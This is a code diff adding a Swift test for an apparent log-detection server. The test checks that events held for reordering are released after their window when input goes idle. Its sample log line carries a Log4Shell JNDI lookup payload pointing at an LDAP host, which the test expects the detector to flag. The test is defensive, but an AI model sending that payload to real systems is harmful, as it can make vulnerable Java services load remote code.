@@ -64,4 +64,30 @@ final class LiveNotableServeTests: XCTestCase {
         let u = try XCTUnwrap(users.first { ($0["user"] as? String) == user }, "\(users)")
         XCTAssertGreaterThanOrEqual(u["max_score"] as? Int ?? 0, 90, "\(u)")
     }
+
+    /// Input idle: event time moves on with the wall clock from the newest event, so an event held for
+    /// reordering is released after its window without a flush or a newer event; a window longer than the
+    /// wait still holds it.
+    func testIdleInputReleasesHeldEventsAfterTheirWindow() throws {
+        func run(reorderSeconds: Int, wait: TimeInterval) throws -> [String] {
+            let dir = try makeTempDir("idle-advance")
+            let server = try ServerProcess(dir: dir, extraServe: "reorder_seconds = \(reorderSeconds)\ncheckpoint_seconds = 1", context: nil)
+            defer { server.stop() }
+            let line = Self.login("omar.haddad@corp-example.com", "2026-11-02T08:20:00+0000", ip: "198.51.100.21",
+                                  info: ", User-Agent: ${jndi:ldap://203.0.113.45:1389/a}")
+            XCTAssertEqual(server.http("POST", "/ingest", body: Data((line + "\n").utf8)).0, 200)
+            XCTAssertTrue(server.waitProcessed(transport: "http", count: 1), server.stderrText)
+            let deadline = Date().addingTimeInterval(wait)
+            var lines: [String] = []
+            repeat {
+                Thread.sleep(forTimeInterval: 0.25)
+                lines = ((try? String(contentsOfFile: dir + "/alerts.jsonl", encoding: .utf8)) ?? "").split(separator: "\n").map(String.init)
+            } while lines.isEmpty && Date() < deadline
+            return lines
+        }
+        let released = try run(reorderSeconds: 1, wait: 20)
+        XCTAssertTrue(released.contains { $0.contains("A-APP-Log4j-String") }, "released after idle: \(released)")
+        let held = try run(reorderSeconds: 600, wait: 4)
+        XCTAssertTrue(held.isEmpty, "a 10-minute window still holds the event after 4 s: \(held)")
+    }
 }
